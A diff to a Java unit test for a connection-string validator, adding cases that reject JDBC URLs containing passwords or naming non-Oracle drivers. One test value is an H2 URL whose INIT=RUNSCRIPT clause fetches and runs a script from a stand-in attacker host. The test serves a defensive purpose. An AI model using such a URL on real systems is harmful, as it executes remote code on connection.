@@ -8,6 +8,7 @@ import org.junit.jupiter.api.io.TempDir;
 
 import java.nio.file.Files;
 import java.nio.file.Path;
+import java.util.List;
 import java.util.Map;
 
 import static org.junit.jupiter.api.Assertions.assertEquals;
@@ -39,6 +40,24 @@ class ConnectStringsTest {
         assertTrue(problem(t(ConnectKind.EZCONNECT, "db1:1521", "", "", Role.NORMAL), Map.of()).contains("host:port/service"));
         assertTrue(problem(t(ConnectKind.EZCONNECT, "db1:99999/SALES", "", "", Role.NORMAL), Map.of()).contains("not a port"));
         assertTrue(problem(t(ConnectKind.URL, "db1:1521/SALES", "", "", Role.NORMAL), Map.of()).contains("choose EZConnect"));
+    }
+
+    @Test
+    void aUrlWithThePasswordInItOrForAnotherDriverIsRefused() throws Exception {
+        for (String withPassword : List.of("jdbc:oracle:thin:scott/tiger@//db1:1521/SALES",
+                "jdbc:oracle:thin:system/Welcome1#@db1:1521:ORCL", "JDBC:ORACLE:THIN:scott@//db1:1521/SALES",
+                "jdbc:oracle:thin:@//db1:1521/SALES?oracle.jdbc.password=tiger")) {
+            assertTrue(problem(t(ConnectKind.URL, withPassword, "", "", Role.NORMAL), Map.of())
+                    .contains("Leave the user name and password out of the URL"), withPassword);
+        }
+        // H2 is on the class path (the demo): its INIT= runs a script when it connects.
+        for (String other : List.of("jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
+                "jdbc:postgresql://db1/sales", "jdbc:oracle:oci:@SALES")) {
+            assertTrue(problem(t(ConnectKind.URL, other, "", "", Role.NORMAL), Map.of()).contains("Oracle thin URL"), other);
+        }
+        assertEquals("jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=db1)(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=S)))",
+                ConnectStrings.resolve(t(ConnectKind.URL, "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=db1)"
+                        + "(PORT=1521))(CONNECT_DATA=(SERVICE_NAME=S)))", "", "", Role.NORMAL), Map.of()).url());
     }
 
     @Test
